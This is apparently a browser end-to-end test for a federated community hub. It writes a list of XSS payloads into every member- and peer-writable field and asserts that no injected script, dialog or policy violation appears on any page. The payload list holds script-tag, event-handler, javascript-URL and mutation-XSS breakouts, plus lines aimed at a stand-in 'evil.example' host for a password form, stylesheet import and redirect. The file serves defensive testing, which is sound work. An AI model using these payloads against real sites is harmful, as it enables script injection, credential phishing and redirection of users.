// R-48 and H151 of docs/hostile.md: what runs in a page if a page lets it, in every text that a member or a peer
// can write, rendered in a browser. No script runs, no dialog opens, no policy is broken, nobody else is asked.
import assert from "node:assert/strict";
import { after, before, it } from "node:test";
import { launch, open } from "./browser.js";
import { Hub } from "./hub.js";
import { Peer } from "./peer.js";
import { signIn } from "./steps.js";

/** Ways out of text, attributes, comments, scripts and styles; each would call `owned`. */
const PAYLOADS = [
  `<script>owned()</script>`,
  `"><script>owned()</script>`,
  `'"><img src=x onerror=owned()>`,
  `<svg onload=owned()><svg/onload=owned()>`,
  `<a href="javascript:owned()" onmouseover="owned()">a link</a>`,
  `[a link](javascript:owned()) ![p](javascript:owned())`,
  `</title></textarea></style></script><script>owned()</script>`,
  `<iframe srcdoc="<script>parent.owned()</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=owned()>`,
  `--><script>owned()</script><!--`,
  `{{ owned() }} {% owned() %} \${owned()}`,
  `<form action="https://evil.example"><input name=password autofocus onfocus=owned()></form>`,
  `<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href="https://evil.example/x.css">`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
];
const ALL = PAYLOADS.join(" ");

let hub;
let peer;
let browser;
/** Pages that show what was written, as words. */
let shown = 0;
const places = ["/", "/groups", "/c/drivers", "/c/drivers/log", "/log", "/c/drivers/feed.atom", "/sitemap.xml"];
const own = ["/notices", "/messages", "/reports", "/servers", "/people", "/c/drivers/moderation", "/settings/profile"];

async function made(method, where, body, as = "ben") {
  const answer = await hub.call(method, where, body, as);
  assert.ok(answer.status < 300, `${method} ${where}: ${answer.status} ${JSON.stringify(answer.body)}`);
  return answer.body;
}

/** Whatever members write, with as much of the payloads as fits. */
async function write() {
  const posts = "/api/hub/v1/groups/drivers/posts";
  const soon = new Date(Date.now() + 7 * 24 * 3_600_000).toISOString();
  for (const [number, payload] of PAYLOADS.entries()) {
    await made("POST", posts, { title: `${number} ${payload}`.slice(0, 300), body: payload });
  }
  const long = { title: "All of it", body: `${ALL}\n\n@anna #<script>owned()</script>` };
  const post = await made("POST", posts, long);
  const options = PAYLOADS.map((payload) => payload.slice(0, 200));
  const poll = await made("POST", posts, { title: "A poll", poll: { options, ends_at: soon } });
  const meeting = { starts_at: soon, timezone: "UTC", place: ALL.slice(0, 300) };
  const event = await made("POST", posts, { title: "A meeting", event: meeting });
  await made("POST", `/api/hub/v1/posts/${post.id}/comments`, { body: ALL });
  await made("POST", `/api/hub/v1/posts/${post.id}/report`, { reason: ALL }, "anna");
  await made("PATCH", "/api/hub/v1/groups/drivers", { title: PAYLOADS[2], summary: ALL }, "anna");
  await made("POST", `/api/hub/v1/posts/${post.id}/lock`, { locked: true, reason: ALL }, "anna");
  const letter = await made("POST", "/api/hub/v1/messages", { to: ["anna"], body: ALL });
  own.push(`/messages/${letter.conversation_id}`);
  for (const { id } of [post, poll, event]) places.push(`/post/${id}`);
  for (const q of [ALL.slice(0, 200), PAYLOADS[1]]) places.push(`/search?q=${encodeURIComponent(q)}`);
}

/** Whatever a peer sends: every text of an actor, and of objects of every kind. */
async function receive() {
  const group = `${hub.base}/c/drivers`;
  for (const [number, kind] of ["Note", "Page", "Article", "Question", "Event", "Video"].entries()) {
    await peer.creates(hub, group, kind, number, ALL);
  }
  const found = await hub.eventually("/api/hub/v1/groups/drivers/posts?limit=100", (page) =>
    page.items.filter((item) => !item.author.local).length >= 4,
  );
  for (const item of found.items.filter((one) => !one.author.local)) places.push(`/post/${item.id}`);
  places.push(`/u/mallory@${peer.host}`);
}

before(async () => {
  hub = await Hub.start();
  peer = await Peer.start(ALL);
  await write();
  await receive();
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await peer?.stop();
  await hub?.stop();
});

async function look(page, faults, place) {
  const dialogs = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    globalThis.broken = [];
    globalThis.owned = () => globalThis.broken.push("owned");
    addEventListener("securitypolicyviolation", (event) => globalThis.broken.push(event.violatedDirective));
  });
  const answer = await page.goto(place);
  assert.ok(answer.status() === 200, `${place}: ${answer.status()}`);
  if (!/html/.test(answer.headers()["content-type"])) return;
  if (/owned\(\)/.test(await page.locator("main").innerText())) shown += 1;
  await page.locator("a, button, summary").first().hover({ force: true, trial: true }).catch(() => {});
  assert.deepEqual(await page.evaluate("globalThis.broken"), [], `R-48 ${place}`);
  assert.deepEqual(dialogs, [], `R-48 ${place}`);
  const inside = "main script, main style, main iframe, main svg[onload], main [onerror], main [onload], main [onfocus], main base, main meta, main object";
  assert.equal(await page.locator(inside).count(), 0, `R-48 ${place}: something that runs`);
  assert.equal(await page.locator('main [href^="javascript:" i], main [src^="javascript:" i]').count(), 0, place);
  assert.equal(await page.locator('form[action*="evil.example"]').count(), 0, place);
  assert.deepEqual(faults, [], `R-48 ${place}`);
}

it("R-48: nothing that anybody wrote runs in a page", async () => {
  for (const place of places) {
    const { context, page, faults } = await open(browser, hub, {});
    await look(page, faults, place);
    await context.close();
  }
  const { context, page } = await open(browser, hub, {});
  await signIn(page, "anna");
  const state = await context.storageState();
  await context.close();
  for (const place of [...own, ...places]) {
    const opened = await open(browser, hub, { state });
    await look(opened.page, opened.faults, place);
    await opened.context.close();
  }
  assert.ok(shown > places.length, `the payloads are to be read on ${shown} pages`);
});
